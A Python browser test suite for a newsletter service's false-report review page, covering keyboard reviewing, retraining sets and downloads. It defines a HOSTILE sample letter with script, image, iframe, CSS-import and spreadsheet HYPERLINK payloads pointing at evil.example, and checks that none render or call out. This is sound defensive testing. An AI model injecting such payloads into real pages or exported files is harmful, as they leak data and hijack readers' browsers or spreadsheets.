"""The False reports page as a reviewer works with it: by keys alone, and nothing gets out."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Browser, Page
from sqlalchemy import Connection, text

from core.false_reports.retraining import SetSettings
from core.false_reports.reviews import standings
from core.false_reports.votes import State
from core.ports import Review
from core.timeframe import MINUTE, Window, floor_to, write_time
from db.demo.newsletters.retraining import deployments, models, training_runs
from db.demo.newsletters.simulation import Simulation, real_scores
from db.demo.newsletters.story import Scenario
from db.engine import Role
from db.readers.false_reports import SqlFalseReportReader
from db.reports import false_reports_report
from db.team.retraining_sets import make_set
from db.writer import MetricWriter
from tests.browser.chromium import redrawn, settle
from tests.browser.conftest import Site
from tests.browser.visits import HEADING, table, until_pages_look_again, visit, words
from tests.db.team.report_rows import Report, put_reports

pytestmark = pytest.mark.browser

SERVICE = "newsletters"
HOSTILE = (
    "=HYPERLINK(\"https://evil.example\") [PERSON_1] <img src='https://evil.example/a.png'> "
    "![picture](https://evil.example/b.png) <script>fetch('https://evil.example/c')</script> "
    "<style>@import 'https://evil.example/d.css';</style> https://evil.example/e "
    "<iframe src='https://evil.example/f'></iframe> \u202eright-to-left\u202c **bold** $x^2$"
)
TOPIC = 999
#: How what a test writes is told from what the demo has written.
_WRITTEN = (
    "team.retraining_set_letter where set_id <> all(:sets)",
    "team.retraining_set where set_id <> all(:sets)",
    "team.report_claim where reviewer not like 'simulated%'",
    "team.report_second_opinion where asked_by not like 'simulated%'",
    "team.report_review_undo where undone_by not like 'simulated%'",
    "team.report_review where reviewer not like 'simulated%'",
    "team.report_topic where topic_id = 999",
    "team.report_group where exemplar = 'hostile'",
    "team.report_letter where report_id = 'hostile'",
    "metrics.training_run where run_id like 'retraining-%'",
    "metrics.deployment where model_version like 'bert-5%'",
)


@pytest.fixture
def untouched(site: Site) -> Iterator[Site]:
    """The site; what a test writes about reports is taken back."""
    owner = site.store.engine(Role.OWNER)
    with owner.connect() as connection:
        sets = connection.execute(text("select set_id from team.retraining_set")).scalars().all()
    yield site
    with owner.begin() as connection:
        for written in _WRITTEN:
            asked = {"sets": list(sets)} if ":sets" in written else {}
            connection.execute(text(f"delete from {written}"), asked)


@pytest.fixture
def hostile(untouched: Site) -> tuple[Site, int]:
    """The site with a letter that wants out, in a topic of its own; and its group."""
    site, at = untouched, untouched.as_of - 10 * MINUTE
    report = Report("hostile", text=HOSTILE, predicted_at=at, reported_at=at, topic_id=TOPIC)
    with site.store.engine(Role.OWNER).begin() as owner:
        (group_id,) = put_reports(owner, SERVICE, [report]).values()
        # Taken now: or what was cached for the test before this one would be shown.
        owner.execute(
            text("update team.report_letter set taken_at = now() where report_id = 'hostile'")
        )
        owner.execute(
            text("insert into team.report_topic values (:service, :id, array[:word], :at)"),
            {"service": SERVICE, "id": TOPIC, "word": "<img src=x>", "at": at},
        )
    until_pages_look_again()
    return site, group_id


def live(site: Site, **query: str) -> str:
    """The address of the page of now, where reviews are made."""
    return f"{site.address}/false_reports?{urlencode({'service': SERVICE} | query)}"


def tab_to(page: Page, label: str) -> None:
    """Press Tab until the focus is on what is so labelled."""
    for _ in range(160):  # the way may begin anew where the page is drawn anew meanwhile
        page.keyboard.press("Tab")
        focused = page.evaluate(
            "() => { const one = document.activeElement;"
            " return one.getAttribute('aria-label') || one.innerText || ''; }"
        )
        if focused.strip() == label:
            return
    raise AssertionError(f"Tab does not reach {label}")


def press(page: Page, key: str, said: str) -> str:
    """Press a key, and wait for what it brings."""
    with redrawn(page):
        page.keyboard.press(key)
    page.get_by_text(re.compile(said)).first.wait_for()
    found = re.search(said, words(page))
    assert found is not None
    return found[0]


def votes_of(reader: SqlFalseReportReader, reviewer: str) -> list[Review]:
    """Somebody's votes."""
    votes = reader.reviews(SERVICE, datetime.now(UTC))
    return [vote for vote in votes if vote.reviewer == reviewer]


def begin(page: Page, name: str) -> None:
    """Type a name, leave the field, and take the first group: all with the keyboard."""
    tab_to(page, "Who reviews")
    page.keyboard.type(name)
    with redrawn(page):
        page.keyboard.press("Tab")
    press(page, "n", r"Yours until")


def test_the_page_says_what_the_terminal_says(browser: Browser, site: Site) -> None:
    found = site.terminal("evidence", "false-reports")
    with visit(browser, site.link("false_reports", tab="Topics")) as page:
        assert page.locator(HEADING).inner_text() == found["sentence"].rstrip(".")
        listed = [row for row in table(page, "Topic")[1:] if row]
    assert len(listed) > 1
    told = [[one["groups"], one["reports"], one["waiting"]] for one in found["topics"]]
    shown = [[int(cell.replace(",", "")) for cell in row[2:5]] for row in listed]
    assert shown == told[: len(shown)]


def test_a_reviewer_confirms_rejects_and_undoes_by_keys_makes_a_set_and_sees_what_came_of_it(
    browser: Browser, untouched: Site, tmp_path: Path
) -> None:
    site = untouched
    app = site.store.engine(Role.APP)
    reader = SqlFalseReportReader(app)
    with visit(browser, live(site)) as page:
        begin(page, "Анна")
        press(page, "y", r"Confirmed group \d+")
        rejected = press(page, "1", r"Rejected group \d+").split()[-1]
        press(page, "z", f"Your vote on group {rejected} is taken back")
        assert f"Group {rejected}." in words(page)
        press(page, "u", f"Unsure of group {rejected}")
        for _ in range(6):
            group = re.search(r"Group (\d+)\.", words(page))
            assert group is not None
            press(page, "y", f"Confirmed group {group[1]}")
        now = datetime.now(UTC)
        groups, votes = reader.groups(SERVICE, now), reader.reviews(SERVICE, now)
        mine = [vote for vote in votes if vote.reviewer == "Анна"]
        assert len({vote.group_id for vote in mine}) == len(mine) - 1, (
            "once each, but for the undone"
        )
        (undone,) = [vote for vote in mine if vote.undone_at is not None]
        assert (undone.verdict, str(undone.group_id)) == ("reject", rejected)
        states = standings(groups, votes, as_of=now)
        confirmed = states.decided(State.CONFIRMED)
        assert confirmed
        tab_to(page, "Inbox")
        for _ in range(2):
            page.keyboard.press("ArrowRight")
        page.get_by_text("The next set").wait_for()
        settle(page)
        name = press(page, "m", r"newsletters-\d+ is made").split()[0]
        assert name in [row[0] for row in table(page, "Set")[1:]]
        made = reader.sets(SERVICE, datetime.now(UTC))[-1]
        assert made.set_id == name
        assert set(made.groups) <= set(confirmed)
        released_at = _released_by_the_demo(site, tmp_path)
        until_pages_look_again()
        then = write_time(released_at + MINUTE)
        page.goto(live(site, tab="After the release", release="bert-5", as_of=then))
        settle(page)
        assert "bert-5" in words(page)
        told = false_reports_report(app, SERVICE, Window.parse("30d"), released_at + MINUTE)
        assert (told.after[0].version, told.after[0].set_id) == ("bert-5", name)
        with site.store.engine(Role.OWNER).begin() as owner:
            before = _trained_on(owner, name, site.as_of)
        until_pages_look_again()
        try:
            # A page of now knows what was done before this minute began.
            next_minute = write_time(floor_to(datetime.now(UTC), MINUTE) + MINUTE)
            page.goto(live(site, tab="After the release", as_of=next_minute))
            settle(page)
            shown = words(page)
            charts = page.locator("[data-testid=stVegaLiteChart]")
            assert charts.count() >= 1, shown
            assert f"of {name}" in shown
            listed = {int(row[1]) for row in table(page, "Group")[1:] if row and row[1].isdigit()}
        finally:
            with site.store.engine(Role.OWNER).begin() as owner:
                _put_back(owner, before)
    assert listed <= set(made.groups)


def test_nothing_in_a_letter_acts_on_the_page_or_leaves_it(
    browser: Browser, hostile: tuple[Site, int]
) -> None:
    site, group_id = hostile
    # `visit` fails where the page asks anybody outside for anything.
    with visit(browser, live(site, topic=str(TOPIC))) as page:
        begin(page, "Борис")
        shown = page.locator(".st-key-letter_at_hand")
        assert shown.locator("img, script, style, iframe, a").count() == 0
        written = shown.inner_text()
        assert "<img src='https://evil.example/a.png'>" in written
        assert "<script>" in written
        assert "**bold** $x^2$" in written
        assert "⟨U+202E⟩right-to-left⟨U+202C⟩" in written
        assert page.get_by_text("<img src=x>").count() > 0
        (row,) = [row for row in table(page, "Letter")[1:] if str(group_id) in row]
        assert any(cell.startswith("'=HYPERLINK") for cell in row)
        page.mouse.move(400, 700)
        settle(page)
    with visit(browser, live(site, tab="Topics")) as page:
        assert page.locator("[data-testid=stMain] img[src=x]").count() == 0


def test_keys_do_nothing_while_somebody_types_and_a_double_click_counts_once(
    browser: Browser, hostile: tuple[Site, int]
) -> None:
    site, group_id = hostile
    reader = SqlFalseReportReader(site.store.engine(Role.APP))
    with visit(browser, live(site, topic=str(TOPIC))) as page:
        begin(page, "Вера")
        page.get_by_label("Note", exact=True).click()
        page.keyboard.type("yes, 12345 uxsz")
        with redrawn(page):
            page.keyboard.press("Tab")
        assert votes_of(reader, "Вера") == []
        with redrawn(page):
            page.get_by_role("button", name="Confirm: the report is right").dblclick()
        page.get_by_text(f"Confirmed group {group_id}").wait_for()
    (vote,) = votes_of(reader, "Вера")
    assert (vote.group_id, vote.note) == (group_id, "yes, 12345 uxsz")


def test_ticked_rows_are_decided_together(browser: Browser, hostile: tuple[Site, int]) -> None:
    site, group_id = hostile
    reader = SqlFalseReportReader(site.store.engine(Role.APP))
    with visit(browser, live(site, topic=str(TOPIC))) as page:
        tab_to(page, "Who reviews")
        page.keyboard.type("Галя")
        with redrawn(page):
            page.keyboard.press("Tab")
        grid = page.locator("[data-testid=stDataFrame]").first
        with redrawn(page):
            grid.click(position={"x": 16, "y": 52})
        page.get_by_text("Confirm 1 ticked").wait_for()
        press(page, "Shift+Y", r"Confirmed 1 of 1 groups")
    (vote,) = votes_of(reader, "Галя")
    assert vote.group_id == group_id


def test_files_of_a_set_cannot_act(
    browser: Browser, hostile: tuple[Site, int], tmp_path: Path
) -> None:
    site, group_id = hostile
    app = site.store.engine(Role.APP)
    with site.store.engine(Role.OWNER).begin() as owner:
        for number, who in enumerate(("Анна", "Борис")):
            stage = ("first", "second")[number]
            owner.execute(
                text(
                    "insert into team.report_review (service, group_id, reviewer, verdict, stage, "
                    "blind, drawn, group_version, exemplar, reports, request_id, decided_at) "
                    "values (:service, :group_id, :who, 'confirm', :stage, true, 'order', 1, "
                    "'hostile', 1, :who, :at)"
                ),
                {
                    "service": SERVICE,
                    "group_id": group_id,
                    "who": who,
                    "stage": stage,
                    "at": site.as_of,
                },
            )
    made = make_set(
        app, SERVICE, by="Анна", at=datetime.now(UTC), request_id="r", settings=SetSettings()
    )
    until_pages_look_again()
    with visit(browser, live(site, tab="Sets")) as page:
        with page.expect_download() as asked:
            page.get_by_role("button", name="CSV to look at").click()
        asked.value.save_as(tmp_path / "set.csv")
        with page.expect_download() as asked:
            page.get_by_role("button", name="Zip for training").click()
        assert asked.value.suggested_filename == f"{made.set_id}.zip"
        settle(page)
    rows = list(csv.reader(io.StringIO((tmp_path / "set.csv").read_text("utf-8-sig"))))
    (letter,) = [row for row in rows if any("evil.example/a.png" in cell for cell in row)]
    assert any(cell.startswith("'=HYPERLINK") for cell in letter)


def _released_by_the_demo(site: Site, folder: Path) -> datetime:
    """Train and release a model on the newest set, as the live demo does; when it was released."""
    app, since = site.store.engine(Role.APP), site.as_of
    trained = models(app, since, datetime.now(UTC), training=timedelta(seconds=1))
    at = trained[-1].released[0]
    out = deployments(trained, Simulation(Scenario(since), real_scores).population, at)
    with MetricWriter(site.store, service=SERVICE, buffer=folder / "buffer") as writer:
        for name, rows in (("training_run", training_runs(trained, at)), ("deployment", out)):
            assert rows is not None
            writer.load(name, rows)
    return at


def _trained_on(owner: Connection, set_id: str, until: datetime) -> tuple[str, str]:
    """Let the model that has served for days be the one trained on a set: time flies."""
    row = owner.execute(
        text(
            "select run.run_id, run.retraining_set from metrics.training_run run "
            "join metrics.deployment released using (service, model_version) "
            "where service = :service and run.status = 'succeeded' "
            "and released.stage = 'production' and released.deployed_at <= :until "
            "order by released.deployed_at desc, run.finished_at desc limit 1"
        ),
        {"service": SERVICE, "until": until},
    ).one()
    _put_back(owner, (row.run_id, set_id))
    return row.run_id, row.retraining_set


def _put_back(owner: Connection, before: tuple[str, str]) -> None:
    owner.execute(
        text(
            "update metrics.training_run set retraining_set = :set_id, written_at = now() "
            "where service = :service and run_id = :run_id"
        ),
        {"service": SERVICE, "run_id": before[0], "set_id": before[1]},
    )
